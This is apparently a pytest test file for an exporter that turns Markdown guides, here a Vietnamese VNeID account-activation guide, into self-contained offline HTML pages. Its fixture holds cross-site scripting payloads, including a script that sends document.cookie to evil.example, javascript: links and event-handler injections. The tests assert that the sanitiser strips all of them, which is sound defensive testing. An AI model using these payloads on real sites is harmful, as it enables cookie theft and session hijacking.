"""The offline HTML page: self-contained, safe whatever the guide's Markdown holds, readable on a phone."""

from __future__ import annotations

import base64
import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest
from PIL import Image, ImageDraw

from support import pixels
from trainer.exporters import get_exporter
from trainer.exporters.base import ExportError
from trainer.exporters.html import check_page, sanitize_markdown
from trainer.store import load_guide

FRONT = """---
title: Kích hoạt tài khoản định danh điện tử VNeID
slug: {slug}
summary: Kích hoạt tài khoản VNeID sau khi Công an xã đã duyệt hồ sơ.
topic: Định danh điện tử
valid_as_of: 2026-11-22
links:
- title: Cổng định danh điện tử
  url: https://vneid.gov.vn
status: reviewed
---
"""
SECRET_RED = (250, 10, 10)


def write_guide(root: Path, slug: str, body: str, image: bool = True) -> Path:
    """A guide folder with a 360x720 phone-like image whose top band is pure red (the 'secret')."""
    folder = root / slug
    (folder / "images").mkdir(parents=True)
    if image:
        img = Image.new("RGB", (360, 720), (235, 240, 248))
        ImageDraw.Draw(img).rectangle((0, 0, 359, 80), fill=SECRET_RED)
        img.save(folder / "images" / "01.png")
    (folder / "guide.md").write_text(FRONT.format(slug=slug) + body, encoding="utf-8")
    return folder


class Collect(HTMLParser):
    """Every tag with its attributes, and the text, of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def parse(html: str) -> Collect:
    collector = Collect()
    collector.feed(html)
    return collector


def export(folder: Path, out: Path, theme: str = "default") -> str:
    exporter = get_exporter("html")
    written = exporter.export(load_guide(folder), out, exporter.Options(theme=theme))
    assert [p.name for p in written] == [f"{folder.name}-html.html"]
    return written[0].read_text(encoding="utf-8")


MALICIOUS = """
Intro <script>alert('intro')</script> text.

## Mở ứng dụng

Bấm **VNeID** <script>document.location='https://evil.example/'+document.cookie</script>
<img src="https://evil.example/track.png" onerror="alert(1)"> ![remote](https://evil.example/x.png)
[javascript](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=) [vb](JaVaScRiPt:alert(2))
<a href="https://ok.example/" onclick="alert(3)" onmouseover="alert(4)">ok link</a>
<iframe src="https://evil.example/"></iframe><style>body{background:url(https://evil.example/bg.png)}</style>
<svg onload="alert(5)"><image href="https://evil.example/s.png"/></svg> <form action="https://evil.example"><input></form>

![Màn hình](images/01.png)

> [!WARNING]
> Cảnh báo <script>alert('callout')</script> <b onmouseover="alert(6)">đậm</b> [x](javascript:void(0))

## Step two <script>alert('title')</script>

Nhập *số định danh*.
"""


@pytest.fixture(scope="module")
def malicious_page(tmp_path_factory: pytest.TempPathFactory) -> str:
    root = tmp_path_factory.mktemp("evil")
    return export(write_guide(root, "evil-guide", MALICIOUS), root / "out")


def test_malicious_guide_yields_no_script_handler_javascript_or_remote_resource(malicious_page: str) -> None:
    page = parse(malicious_page)
    names = [tag for tag, _ in page.tags]
    for forbidden in ("script", "iframe", "svg", "form", "input", "object", "embed", "link", "base"):
        assert forbidden not in names
    assert names.count("style") == 1  # ours, in the head
    for tag, attrs in page.tags:
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            assert "javascript" not in (value or "").lower(), (tag, name, value)
        if tag == "img":
            assert (attrs["src"] or "").startswith("data:image/"), attrs
        if tag == "a":
            assert attrs.get("href") is None or re.match(r"^https?://", attrs["href"] or ""), attrs
    assert "evil.example" not in malicious_page
    # script bodies are dropped, not shown; the one left is the escaped step title, shown as text
    assert malicious_page.count("alert(") == 1
    assert "<script>" not in malicious_page
    # the step title went through autoescaping: shown as text, harmless
    assert "Step two &lt;script&gt;" in malicious_page
    # legitimate content survives
    assert '<a href="https://ok.example/" rel="noopener noreferrer">ok link</a>' in malicious_page
    assert "<strong>VNeID</strong>" in malicious_page and "<em>số định danh</em>" in malicious_page


def test_page_is_self_contained_with_a_network_forbidding_csp(malicious_page: str) -> None:
    page = parse(malicious_page)
    csp = [a["content"] for t, a in page.tags if t == "meta" and (a.get("http-equiv") or "").lower() == "content-security-policy"]
    assert csp and "default-src 'none'" in csp[0] and "script-src" not in csp[0]
    assert any(t == "meta" and a.get("name") == "viewport" for t, a in page.tags)
    # every url() in the CSS is a data: URI (the embedded font), never a file or a server
    urls = re.findall(r"url\(([^)]{0,30})", malicious_page)
    assert urls and all(u.startswith("data:") for u in urls)
    assert "font/woff2" in malicious_page


def test_sanitizer_keeps_only_links_the_policy_allows() -> None:
    html = sanitize_markdown(
        "[a](https://x.gov.vn) [b](ftp://x) [c](/etc/passwd) [d](file:///C:/x) [e](mailto:a@b.vn) [f](tel:18001096) [g](data:,x)"
    )
    assert re.findall(r'href="([^"]*)"', html) == ["https://x.gov.vn", "mailto:a@b.vn", "tel:18001096"]


def test_check_page_refuses_what_slipped_through() -> None:
    for bad in (
        "<script>x</script>",
        '<p onclick="x">',
        '<a href="javascript:x">',
        '<img src="http://x/y.png">',
        "a{b:url(http://x)}",
    ):
        with pytest.raises(ExportError):
            check_page(f"<html>{bad}</html>", "guide.md")
    check_page('<img src="data:image/png;base64,AA"> one = two, javascript: text', "guide.md")


def test_blur_region_is_destroyed_in_the_embedded_image(tmp_path: Path) -> None:
    body = "\n## Bước\n\nChữ.\n\n![Màn hình](images/01.png)\n\n```annotations\nblur 0 0 1 0.115\n```\n"
    page = export(write_guide(tmp_path, "blur-guide", body), tmp_path / "out")
    uri = next(a["src"] for t, a in parse(page).tags if t == "img")
    data = base64.b64decode(uri.split(",", 1)[1])
    (tmp_path / "img").write_bytes(data)
    with Image.open(tmp_path / "img") as img:
        rgba = img.convert("RGBA")
        # the pure-red band has no pixel left anywhere close to the original colour
        reddish = [p for p in pixels(rgba) if p[3] > 0 and p[0] > 200 and p[1] < 80 and p[2] < 80]
    assert reddish == []


def test_missing_image_is_one_plain_error_and_no_file(tmp_path: Path) -> None:
    folder = write_guide(tmp_path, "no-image", "\n## Bước\n\nChữ.\n\n![x](images/none.png)\n", image=False)
    out = tmp_path / "out"
    result = subprocess.run(
        [sys.executable, "-m", "trainer", "export", str(folder), "-f", "html", "-o", str(out)], capture_output=True, text=True
    )
    assert result.returncode == 1
    assert "Traceback" not in result.stderr and "none.png" in result.stderr
    assert not out.exists() or not any(out.iterdir())


def test_large_print_theme_makes_text_larger(tmp_path: Path) -> None:
    folder = write_guide(tmp_path, "big-text", "\n## Bước\n\nChữ.\n", image=False)
    sizes = {}
    for theme in ("default", "large-print"):
        page = export(folder, tmp_path / theme, theme)
        sizes[theme] = float(re.search(r"body \{[^}]*font-size: ([\d.]+)px", page).group(1))
    assert sizes["large-print"] >= 1.4 * sizes["default"]


def export_page(folder: Path, out: Path) -> str:
    exporter = get_exporter("html")
    (path,) = exporter.export(load_guide(folder), out, exporter.Options())
    return path.read_text(encoding="utf-8")


def test_words_to_know_box_and_a_tooltip_on_each_first_use(tmp_path: Path) -> None:
    from support import CONTENT
    from trainer.store.glossary import guide_glossary
    from trainer.terms import terms_used

    folder = CONTENT / "vneid-kich-hoat"
    used = terms_used(load_guide(folder), guide_glossary(load_guide(folder)))
    assert {u.term.term for u in used} >= {"OTP", "passcode", "mức 2"}
    page = export_page(folder, tmp_path)
    parsed = Collect()
    parsed.feed(page)
    tips = [attrs["title"] for tag, attrs in parsed.tags if tag == "abbr"]
    assert tips == [u.term.explanation for u in used]  # one tooltip per term, in reading order
    box = page[page.index('id="tu-can-biet"') : page.index("</section>", page.index('id="tu-can-biet"'))]
    assert "Từ cần biết" in box
    for use in used:
        assert use.term.explanation in box
    assert "CVV" not in box  # only the terms this guide uses
    # the tooltip sits on the words as the guide writes them, where they are first written
    first_otp = next(u for u in used if u.term.term == "OTP")
    assert f'title="{first_otp.term.explanation}">{first_otp.written}</abbr>' in page


def test_term_marks_stay_safe_and_skip_links(tmp_path: Path) -> None:
    body = "## Nhập mã\n\nXem [mã OTP](https://vneid.gov.vn) rồi nhập mã OTP vào ô.\n\n> [!WARNING]\n> Không đọc OTP cho ai.\n"
    folder = write_guide(tmp_path / "lib", "otp", body, image=False)
    (tmp_path / "lib" / "glossary.yml").write_text(
        "- term: OTP\n  explanation: 'Mã \"một lần\" <b>không</b> đọc cho ai & không chia sẻ.'\n", encoding="utf-8"
    )
    page = export_page(folder, tmp_path / "out")
    check_page(page, "otp")
    parsed = Collect()
    parsed.feed(page)
    assert [tag for tag, _ in parsed.tags if tag == "b"] == []  # the explanation's markup stays text
    assert [attrs["title"] for tag, attrs in parsed.tags if tag == "abbr"] == [
        'Mã "một lần" <b>không</b> đọc cho ai & không chia sẻ.'
    ]
    assert '<a href="https://vneid.gov.vn" rel="noopener noreferrer">mã OTP</a> rồi nhập mã <abbr class="term"' in page
